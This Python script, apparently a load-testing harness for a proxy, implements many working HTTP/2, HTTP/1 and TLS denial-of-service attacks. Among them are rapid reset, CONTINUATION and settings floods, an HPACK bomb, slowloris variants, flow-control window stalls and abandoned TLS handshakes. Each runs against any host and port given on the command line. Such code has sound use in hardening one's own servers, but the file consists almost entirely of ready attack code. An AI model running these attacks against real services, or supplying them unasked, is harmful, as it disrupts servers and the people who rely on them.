"""One attack on a proxy: attacker.py ATTACK HOST PORT SECONDS [CA [CERTIFICATE KEY]]. Prints a JSON object of what
the proxy answered.

A process of its own at the lowest priority, so that on one or two cores it is the attack that competes with the victim
and not the attacker's Python. Attacks that cost a proxy's CPU go as fast as this process can send; the others, which a
limit ends after so many frames, are paced by `pause`. With CA the attack goes through TLS, with CERTIFICATE and KEY
through mutual TLS.
"""

import collections
import contextlib
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
# :method, :scheme http, :path, :authority "a" as a literal.
GET, POST = b"\x82\x86\x84\x01\x01a", b"\x83\x86\x84\x01\x01a"


def get(path):
    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def word(number):
    return struct.pack("!I", number)


def setting(identifier, value):
    return struct.pack("!HI", identifier, value)


class Closed(Exception):
    pass


class Link:
    """One connection of the attack. Counts what comes back; `send` raises `Closed` once the proxy has ended it."""

    def __init__(self, attack, settings=b"", http2=True, receive_buffer=0, reads=True):
        self.attack, self.reads, self.buffer, self.answer = attack, reads, b"", b""
        raw = socket.socket()
        if receive_buffer:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        raw.settimeout(5)
        raw.connect(attack.address)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if attack.context:
            attack.context.set_alpn_protocols(["h2" if http2 else "http/1.1"])
            raw = attack.context.wrap_socket(raw)
        self.raw, self.http2 = raw, http2
        self.resets = set()
        attack.links.append(self)
        if http2:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """All of it, reading what comes meanwhile (unless the attack does not read); gives up when the time is over."""
        view = memoryview(data)
        self.raw.setblocking(False)
        while view and not self.attack.is_over:
            try:
                view = view[self.raw.send(view):]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.raw], [self.raw] if self.reads else [], [], 0.05)
            except OSError:
                self.drain()
                raise Closed from None
            if self.reads:
                self.receive()

    def receive(self):
        try:
            while piece := self.raw.recv(65536):
                self.note(piece)
            raise Closed
        except (BlockingIOError, ssl.SSLWantReadError):
            return
        except OSError:
            raise Closed from None

    def drain(self):
        self.raw.setblocking(True)
        with contextlib.suppress(OSError):
            self.raw.settimeout(1)
            while piece := self.raw.recv(65536):
                self.note(piece)

    def note(self, piece):
        self.attack.bytes += len(piece)
        if not self.http2:
            if len(self.answer) < 12:
                self.answer += piece
                if len(self.answer) >= 12:
                    self.attack.seen["status " + self.answer[9:12].decode(errors="replace")] += 1
            return
        self.buffer += piece
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, payload = self.buffer[3], self.buffer[9:9 + length]
            if kind == RST:
                self.attack.seen[f"rst {int.from_bytes(payload, 'big')}"] += 1
                self.resets.add(int.from_bytes(self.buffer[5:9], "big"))
            elif kind == GOAWAY:
                self.attack.seen[f"goaway {int.from_bytes(payload[4:8], 'big')}"] += 1
            self.buffer = self.buffer[9 + length:]


class Attack:
    def __init__(self, address, seconds, authority=None, *certificate):
        self.address, self.links, self.seen, self.bytes = address, [], collections.Counter(), 0
        self.seconds = seconds
        self.begin()
        self.context = None
        if authority:
            self.context = ssl.create_default_context(cafile=authority)
            self.context.check_hostname = False
        if certificate:
            self.context.load_cert_chain(*certificate)

    def begin(self):
        """Its time runs from here: called again by attacks that take long to prepare."""
        self.end = time.monotonic() + self.seconds

    @property
    def is_over(self):
        return time.monotonic() >= self.end

    def pause(self, seconds=0.005):
        """What bounds the attack's rate."""
        time.sleep(seconds)

    def again(self, one):
        """The attack on connection after connection: each goes on until the proxy ends it or the time is over."""
        while not self.is_over:
            try:
                one(self)
            except (Closed, OSError):
                self.seen["closed"] += 1
                self.pause(0.02)
            self.vanish()

    def vanish(self):
        """By a reset: a client that only ends its side may still wait for answers, and the proxy lets it."""
        for link in self.links:
            with contextlib.suppress(OSError):
                link.raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            link.raw.close()
        self.links.clear()


# MARK: HTTP/2

def streams(link, attack, make, batch=20, pause=0.005):
    """Streams 1, 3, 5 ... in batches."""
    stream = 1
    while not attack.is_over:
        link.send(b"".join(make(stream + 2 * n) for n in range(batch)))
        stream += 2 * batch
        attack.pause(pause)


def flood(attack, piece, *, opening=b"", batch=200, reads=True, settings=b""):
    link = Link(attack, settings, reads=reads)
    link.send(opening)
    while not attack.is_over:
        link.send(piece * batch)
        attack.pause()


def rapid_reset(attack):
    stalled = get(b"/stall")
    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, stalled) + frame(RST, 0, n, word(8)))


def made_you_reset(attack):
    stalled = get(b"/stall")
    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, stalled) + frame(WINDOW_UPDATE, 0, n, word(0)))


def continuation_flood(attack):
    flood(attack, frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"), opening=frame(HEADERS, 1, 1, GET), batch=20)


def large_block(attack):
    flood(attack, frame(CONTINUATION, 0, 1, b"\x82" * 16384), opening=frame(HEADERS, 1, 1, GET), batch=2)


def settings_flood(attack):
    flood(attack, frame(SETTINGS, 0, 0, setting(4, 70000)), batch=20)


def settings_entries(attack):
    flood(attack, frame(SETTINGS, 0, 0, setting(4, 70000) * 2000), batch=1)


def ping_flood(attack):
    flood(attack, frame(PING, 0, 0, b"attacked"), batch=4000, reads=False)


def empty_data(attack):
    flood(attack, frame(DATA, 0, 1), opening=frame(HEADERS, 4, 1, POST))


def priority_flood(attack):
    flood(attack, frame(PRIORITY, 0, 1, bytes(5)))


def unknown_flood(attack):
    flood(attack, frame(0x55, 0, 0, b"?"))


def window_update_flood(attack):
    flood(attack, frame(WINDOW_UPDATE, 0, 0, word(1)))


def hpack_bomb(attack):
    entry = b"\x40\x01a\x7f\xe1\x0e" + b"b" * 2016
    link = Link(attack)
    link.send(frame(HEADERS, 5, 1, GET + entry))
    bomb = GET + b"\xbe" * 16000
    stream = 3
    while not attack.is_over:
        link.send(frame(HEADERS, 5, stream, bomb))
        stream += 2


def cookie_crumbs(attack):
    crumbs = GET + b"\x60\x01a" + b"\xbe" * 15000
    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, crumbs), batch=4, pause=0)


def table_flapping(attack):
    flapping = b"\x20\x3f\xe1\x1f" * 2000 + GET
    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, flapping), batch=1)


def empty_names(attack):
    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, GET + b"\x00\x00\x01v"))


def refused_streams(attack):
    stalled = get(b"/stall")
    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, stalled), batch=100, pause=0)


def tiny_windows(attack):
    """Windows of one byte on 50 answers, opened again one byte at a time."""
    numbers = range(1, 101, 2)
    flood(attack, b"".join(frame(WINDOW_UPDATE, 0, n, word(1)) for n in numbers), batch=1, settings=setting(4, 1),
          opening=b"".join(frame(HEADERS, 5, n, get(b"/large")) for n in numbers))


def window_stall(attack):
    """Windows of 0, held for ever, on 400 answers of which 64 KiB are read ahead."""
    link = Link(attack, setting(4, 0))
    link.send(b"".join(frame(HEADERS, 5, n * 2 + 1, get(b"/larger")) for n in range(400)))
    while not attack.is_over:
        link.send(frame(PING, 0, 0, b"tick-tac"))
        attack.pause(0.05)


def stalled_uploads(attack):
    """Every window of every stream of 100 connections filled, towards an application that takes nothing: 100 MiB."""
    links = [Link(attack) for _ in range(100)]
    numbers = range(1, 9, 2)
    for link in links:
        link.send(b"".join(frame(HEADERS, 4, n, b"\x83" + get(b"/stall")[1:]) for n in numbers))
    attack.begin()
    # Four frames a time; the first 65,535 bytes fit any window.
    for _ in range(16):
        for link in list(links):
            try:
                link.send(b"".join(frame(DATA, 0, n, bytes(16384)) for n in numbers if n not in link.resets))
            except Closed:
                attack.seen["closed"] += 1
                links.remove(link)
        attack.pause(0.05)
    while not attack.is_over:
        for link in list(links):
            with contextlib.suppress(Closed):
                link.receive()
        attack.pause(0.05)


def unread_answers(attack):
    """Requests whose answers no window holds up, and nobody reads. Paced, and fewer than may be open at once: refused
    streams would make it another attack, which another limit ends first."""
    link = Link(attack, receive_buffer=8192, reads=False)
    streams(link, attack, lambda n: frame(HEADERS, 5, n, get(b"/header")), batch=50, pause=0.02)


def stream_churn(attack):
    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, GET), batch=100, pause=0)


def connect_churn(attack):
    """CONNECT, which the listener answers itself: the cheapest request there is."""
    block = b"\x02\x07CONNECT\x01\x05a:443"
    streams(Link(attack), attack, lambda n: frame(HEADERS, 4, n, block), batch=1000, pause=0)


# MARK: HTTP/1

def plain(attack, data, *, opening=b"", batch=1, reads=True, receive_buffer=0):
    link = Link(attack, http2=False, reads=reads, receive_buffer=receive_buffer)
    link.send(opening)
    while not attack.is_over:
        link.send(data * batch)
        attack.pause()


CHUNKED = b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"


def chunk_extensions(attack):
    plain(attack, b"1;" + b"x" * 500 + b"\r\na\r\n", opening=CHUNKED, batch=10)


def tiny_chunks(attack):
    plain(attack, b"1\r\na\r\n", opening=CHUNKED, batch=5000)


def pipelining(attack):
    plain(attack, b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n", batch=100, reads=False, receive_buffer=8192)


def long_head(attack):
    plain(attack, b"X: " + b"a" * 1000 + b"\r\n", opening=b"GET / HTTP/1.1\r\nHost: a\r\n", batch=10)


def slow_heads(attack):
    """Slowloris in five tongues: a head, a preface, SETTINGS, a HEADERS frame and a field block, a byte now and then."""
    links = []
    for _ in range(20):
        links.append((Link(attack, http2=False), b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 100))
        links.append((Link(attack, http2=False), PREFACE + frame(SETTINGS)))
        link = Link(attack, http2=False)
        link.send(PREFACE)
        links.append((link, frame(SETTINGS, 0, 0, setting(4, 70000) * 20)))
        links.append((Link(attack), frame(HEADERS, 5, 1, GET + b"\x00\x01a\x60" + b"b" * 96)))
        link = Link(attack)
        link.send(frame(HEADERS, 0, 1, GET))
        links.append((link, frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 8))
    at = 0
    while links and not attack.is_over:
        for link, data in list(links):
            try:
                link.send(data[at:at + 1])
            except Closed:
                attack.seen["closed"] += 1
                links.remove((link, data))
        at += 1
        attack.pause(0.5)
    attack.seen["left"] = len(links)


# MARK: Leaving at once

def leave(attack, data, ending, http2):
    """Asks for much and is gone: by closing, by a reset, or by closing the sending side only, which leaves 50 of them."""
    while not attack.is_over and len(attack.links) < 50:
        link = Link(attack, http2=http2)
        link.send(data)
        if ending == "half_close":
            link.raw.shutdown(socket.SHUT_WR)
            continue
        if ending == "close":
            link.raw.close()
        attack.vanish()


def requests_then(ending):
    request = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
    return lambda attack: leave(attack, request * 100, ending, http2=False)


def streams_then(ending):
    data = b"".join(frame(HEADERS, 5, n, GET) for n in range(1, 200, 2))
    return lambda attack: leave(attack, data, ending, http2=True)


requests_half_close, requests_close, requests_reset = map(requests_then, ("half_close", "close", "reset"))
streams_half_close, streams_close, streams_reset = map(streams_then, ("half_close", "close", "reset"))


# MARK: TLS

def tiny_records(attack):
    """A TLS record for each byte of a request's body."""
    link = Link(attack, http2=False)
    link.send(b"POST /stall HTTP/1.1\r\nHost: a\r\nContent-Length: 100000000\r\n\r\n")
    while not attack.is_over:
        for _ in range(500):
            link.send(b"a")
        attack.pause()


def left_handshakes(attack):
    """A ClientHello's first bytes and then silence."""
    links = []
    for _ in range(100):
        raw = socket.create_connection(attack.address)
        raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        raw.setblocking(False)
        links.append(raw)
    while links and not attack.is_over:
        attack.pause(0.2)
        for raw in list(links):
            with contextlib.suppress(BlockingIOError):
                try:
                    if raw.recv(4096):
                        continue
                except ConnectionError:
                    pass
                attack.seen["closed"] += 1
                links.remove(raw)
    attack.seen["left"] = len(links)


# MARK: No attack

def harmless(attack):
    """What costs this process about as much as an attack, and a proxy what honest clients cost."""
    stream, link = 1, Link(attack)
    while not attack.is_over:
        link.send(b"".join(frame(HEADERS, 5, stream + 2 * n, GET) for n in range(5)))
        stream += 10
        attack.pause()


def main():
    name, host, port, seconds, *credentials = sys.argv[1:]
    os.nice(19)
    # Its waking up preempts nobody.
    os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0))
    attack = Attack((host, int(port)), float(seconds), *credentials)
    one = globals()[name]
    lasting = {"slow_heads", "left_handshakes", "stalled_uploads"}
    one(attack) if name in lasting else attack.again(one)
    attack.vanish()
    print(json.dumps({**attack.seen, "bytes": attack.bytes}))


main()
